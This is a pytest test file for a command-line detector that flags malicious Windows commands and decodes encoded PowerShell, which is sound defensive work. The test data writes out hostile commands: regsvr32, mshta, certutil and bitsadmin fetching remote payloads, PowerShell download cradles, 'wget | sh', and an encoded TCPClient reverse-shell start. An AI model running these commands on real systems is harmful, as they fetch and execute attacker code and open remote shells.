"""Command-line analysis: each finding with the text it matched, encoded PowerShell decoded, and
the database prefilter letting through every command line that has a finding."""

from __future__ import annotations

import base64
import gzip
import re

import pytest

from lurewatch.enrich.cmdline import PREFILTER, analyse_command_line, describe

# Command lines as Sysmon logged them in attack simulations, and what must be found in them.
MALICIOUS = [
    (
        "regsvr32.exe  /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll",
        (),
        "lolbin",
        "regsvr32_scriptlet",
    ),
    (
        # Logged without the program: the process image says it is regsvr32.
        "/u /s /i:https://raw.githubusercontent.com/3gstudent/SCTPersistence/master/calc.sct scrobj.dll",
        ("regsvr32.exe",),
        "lolbin",
        "regsvr32_scriptlet",
    ),
    (
        'wmic  process list /format:"https://a.uguu.se/x50IGVBRfr55_test.xsl"',
        (),
        "lolbin",
        "wmic_remote_xsl",
    ),
    (
        '"C:\\Windows\\System32\\mshta.exe" https://hotelesms.com/talsk.txt',
        (),
        "lolbin",
        "mshta_url",
    ),
    (
        'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"":close")',
        (),
        "lolbin",
        "mshta_inline_script",
    ),
    (
        'rundll32.exe  javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
        'h=new%20ActiveXObject("WScript.Shell").run("mshta https://hotelesms.com/talsk.txt",0,true);',
        (),
        "lolbin",
        "rundll32_javascript",
    ),
    (
        "certutil.exe -urlcache -split -f https://example.net/p.txt out.ps1",
        (),
        "lolbin",
        "certutil_urlcache",
    ),
    (
        "bitsadmin /transfer job /download /priority high http://10.9.9.9/a.exe C:\\t\\a.exe",
        (),
        "lolbin",
        "bitsadmin_transfer",
    ),
    ("msiexec /q /i http://198.51.100.3/pkg.msi", (), "lolbin", "msiexec_remote"),
    ("cmstp.exe /s /ns C:\\Users\\x\\AppData\\Local\\Temp\\x.inf", (), "lolbin", "cmstp_silent"),
    (
        "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://e.example/c.txt','c.ps1')\"",
        (),
        "download_cradle",
        None,
    ),
    (
        "powershell.exe iwr -Uri http://203.0.113.5/a -OutFile a.exe",
        (),
        "download_cradle",
        None,
    ),
    ("powershell Invoke-WebRequest http://203.0.113.5/a", (), "download_cradle", None),
    ("curl.exe -o a.exe https://203.0.113.5/a.exe", (), "download_cradle", None),
    ("wget http://203.0.113.5/x.sh -O- | sh", (), "download_cradle", None),
    ("powershell Start-BitsTransfer -Source http://x.example/a", (), "download_cradle", None),
    ("cmd /c start https://login-check.example/", (), "url", None),
]


@pytest.mark.parametrize(("cmd", "programs", "kind", "lolbin"), MALICIOUS)
def test_finds_it(cmd: str, programs: tuple[str, ...], kind: str, lolbin: str | None) -> None:
    found = analyse_command_line(cmd, programs)
    assert kind in {f.name for f in found}
    if lolbin:
        details = [f.detail for f in found if f.name == "lolbin"]
        assert any(d.startswith(lolbin + ":") for d in details), details
    said = (" ".join(programs) + " " + cmd).lower()
    for f in found:
        assert f.matched and f.matched.rstrip("…").lower() in said
    # The database prefilter must let every one of these through.
    assert re.search(PREFILTER, cmd.lower())


def test_encoded_powershell_is_decoded() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    for flag in ("-enc", "-e", "-EncodedCommand", "-ec", "/enc", "\u2013enc"):
        cmd = f"powershell.exe -nop -w hidden {flag} {blob}"
        found = analyse_command_line(cmd)
        encoded = [f for f in found if f.name == "encoded_powershell"]
        assert encoded and encoded[0].decoded == script, flag
        assert re.search(PREFILTER, cmd.lower()), flag
        assert "DownloadString" in describe(found)


def test_inline_gzip_payload_is_decoded() -> None:
    script = "$c = New-Object Net.Sockets.TCPClient('10.0.2.19', 4444)"
    blob = base64.b64encode(gzip.compress(script.encode())).decode()
    cmd = (
        "powershell.exe -nop -w hidden -c &([scriptblock]::create((New-Object IO.StreamReader("
        "New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,"
        f"[Convert]::FromBase64String('{blob}')))"
    )
    found = [f for f in analyse_command_line(cmd) if f.name == "inline_base64"]
    assert found and found[0].decoded == script
    assert re.search(PREFILTER, cmd.lower())


BENIGN = [
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc",
    "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
    "powershell.exe -NoProfile -Command Get-Service",
    "rundll32.exe shell32.dll,Control_RunDLL",
    "msiexec /i \\\\fs01\\deploy\\app.msi /qn",
    "wmic process list brief",
    "regsvr32.exe /s C:\\Program Files\\App\\comp.dll",
    "cmd.exe /c dir",
    "certutil -hashfile a.exe SHA256",
    "C:\\Windows\\System32\\notepad.exe C:\\Users\\a\\notes.txt",
    "powershell -e notbase64",
]


@pytest.mark.parametrize("cmd", BENIGN)
def test_quiet_on_ordinary_command_lines(cmd: str) -> None:
    assert analyse_command_line(cmd) == []


def test_a_bare_url_and_a_webdav_path_are_named() -> None:
    found = analyse_command_line("winword.exe /n \\\\files.example@SSL\\DavWWWRoot\\doc.docx")
    assert [f.name for f in found] == ["webdav_path"]
    assert analyse_command_line(None) == [] and analyse_command_line("   ") == []
